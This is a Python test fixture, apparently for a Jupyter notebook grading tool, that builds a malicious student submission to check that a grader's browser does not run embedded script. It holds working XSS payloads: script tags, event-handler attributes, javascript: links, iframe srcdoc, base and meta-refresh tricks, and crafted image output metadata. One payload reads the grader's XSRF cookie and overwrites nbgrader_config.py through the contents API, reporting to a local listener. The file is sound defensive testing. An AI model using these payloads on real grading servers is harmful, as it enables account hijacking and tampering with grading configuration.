"""A submission that tries to run script in a grader's browser (issue 32, item 4), and the honest content beside it
that must still show. Each trick, if it ran or loaded, fetches `<marker>/<trick>` from a listener the test starts
and PUTs over `contents_api` (nbgrader_config.py through the Jupyter contents API, as the real attack did); the
fast tests and the Chromium tests use the same list."""

from __future__ import annotations

import base64
import io
import json
import threading
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

HONEST_KOREAN = "어텐션 가중치는 행마다 합이 1입니다"
HONEST_TABLE_CELL = "합계"
HONEST_MARKDOWN = (f"## 내 풀이\n\n{HONEST_KOREAN}.\n\n| 단어 | 가중치 |\n|---|---|\n| 나는 | 0.25 |\n"
                   f"| {HONEST_TABLE_CELL} | 1.00 |\n")
HONEST_HTML_TABLE = (f"<table><tr><th>단어</th><th>가중치</th></tr><tr><td>{HONEST_TABLE_CELL}</td><td>1.00</td></tr>"
                     "</table>")


def honest_png() -> str:
    """A small matplotlib figure as base64 PNG, as the course's plots are stored."""
    import matplotlib
    matplotlib.use("Agg")
    from matplotlib.figure import Figure
    figure = Figure(figsize=(2, 1.5), dpi=50)
    figure.add_subplot().plot([0, 1, 2], [0.2, 0.5, 0.3])
    buffer = io.BytesIO()
    figure.savefig(buffer, format="png")
    return base64.b64encode(buffer.getvalue()).decode()


def script(marker: str, contents_api: str, trick: str) -> str:
    """What each trick runs: tell the listener, rewrite nbgrader_config.py with the grader's XSRF token, alert.
    Single quotes only, so it fits in any double-quoted attribute."""
    return (f"fetch('{marker}/{trick}');fetch('{contents_api}',{{method:'PUT',credentials:'include',"
            "headers:{'Content-Type':'application/json','X-XSRFToken':(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]},"
            "body:JSON.stringify({type:'file',format:'text',content:'c = get_config()  # pwned'})});"
            f"alert('{trick}')")


def html_tricks(marker: str, contents_api: str) -> dict[str, str]:
    """Trick name → HTML, for a markdown cell and a text/html output alike."""
    def run(trick: str) -> str:
        return script(marker, contents_api, trick)
    return {
        "script": f"<script>{run('script')}</script>",
        "img-onerror": f'<img src="missing.png" onerror="{run("img-onerror")}">',
        "svg-onload": f'<svg onload="{run("svg-onload")}"><circle r="5"></circle></svg>',
        "details-ontoggle": f'<details open ontoggle="{run("details-ontoggle")}"><summary>열기</summary></details>',
        "javascript-link": f'<a class="trick-link" href="javascript:{run("javascript-link")}">링크</a>',
        "iframe-srcdoc": f'<iframe srcdoc="<script>{run("iframe-srcdoc")}</script>"></iframe>',
        "meta-refresh": f'<meta http-equiv="refresh" content="0; url={marker}/meta-refresh">',
        "form": (f'<form action="{marker}/form" method="post"><input name="q" autofocus '
                 f'onfocus="{run("form-autofocus")}"><button class="trick-button" type="submit">보내기</button>'
                 "</form>"),
        "base": (f'<base href="{marker}/base/"><img src="base-relative.png">'
                 '<a class="trick-link" href="base-link">상대</a>'),
        "css-style-element": f"<style>body {{ background: url('{marker}/css-style-element') }} "
                             f"@import url('{marker}/css-import');</style>",
        "css-style-attribute": f"<div style=\"background-image: url('{marker}/css-style-attribute')\">배경</div>",
        "remote-image": f'<img src="{marker}/remote-image">',
        "object-embed-link": (f'<object data="{marker}/object"></object><embed src="{marker}/embed">'
                              f'<link rel="stylesheet" href="{marker}/link">'),
    }


def markdown_source(marker: str, contents_api: str) -> str:
    """A student's markdown cell: the honest answer, then every HTML trick and markdown's own link and image."""
    tricks = "\n\n".join(html_tricks(marker, contents_api).values())
    return (f"{HONEST_MARKDOWN}\n\n{tricks}\n\n[마크다운 링크](javascript:fetch%28%27{marker}/markdown-link%27%29)"
            f"\n\n![그림]({marker}/markdown-image)\n")


@dataclass
class Display:
    """One display_data output: its data and metadata, as IPython.display.display(data, raw=True, metadata=…)."""
    data: dict
    metadata: dict = field(default_factory=dict)


def displays(marker: str, contents_api: str, png: str) -> list[Display]:
    """The outputs of a student's code cell: the honest table and figure, then each output-borne trick."""
    compact = f"fetch('{marker}/png-width')"  # no spaces: nbconvert writes width= unquoted
    return [
        Display({"text/plain": HONEST_KOREAN, "text/html": f"<p>{HONEST_KOREAN}</p>{HONEST_HTML_TABLE}"}),
        Display({"text/plain": "그림", "image/png": png}, {"image/png": {"width": 100}}),
        Display({"text/plain": "html", "text/html": "\n".join(html_tricks(marker, contents_api).values())}),
        Display({"text/plain": "js", "application/javascript": script(marker, contents_api, "application-javascript")}),
        Display({"text/plain": "svg", "image/svg+xml": (
            f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script(marker, contents_api, "svg-output")}">'
            f"<script>{script(marker, contents_api, 'svg-output-script')}</script></svg>")}),
        Display({"text/plain": "md", "text/markdown": (
            f"![그림]({marker}/markdown-output-image)\n\n"
            f"<script>{script(marker, contents_api, 'markdown-output')}</script>")}),
        Display({"text/plain": "png",
                 "image/png": f'iVBORw0KGgo=" onerror="{script(marker, contents_api, "png-data")}'}),
        Display({"text/plain": "png", "image/png": png}, {"image/png": {"width": f"1 onerror={compact}"}}),
        Display({"text/plain": "png", "image/png": png}, {"filenames": {"image/png": f"{marker}/png-filename"}}),
    ]


def display_outputs(items: list[Display]) -> list[dict]:
    """The same outputs as they sit in a notebook."""
    return [{"output_type": "display_data", "data": item.data, "metadata": item.metadata} for item in items]


def display_code(items: list[Display]) -> str:
    """A code cell that makes those outputs when it runs (as the grader re-runs the submission)."""
    shown = json.dumps([[item.data, item.metadata] for item in items], ensure_ascii=False)
    return ("from IPython.display import display\n"
            f"for data, metadata in {shown}:\n"
            "    display(data, raw=True, metadata=metadata)\n")


class Listener:
    """An HTTP listener on loopback that records every path asked of it: anything here means a trick ran or loaded."""

    def __init__(self):
        seen = self.seen = []

        class Record(BaseHTTPRequestHandler):
            def _record(self):
                seen.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_GET = do_POST = do_PUT = do_OPTIONS = _record

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
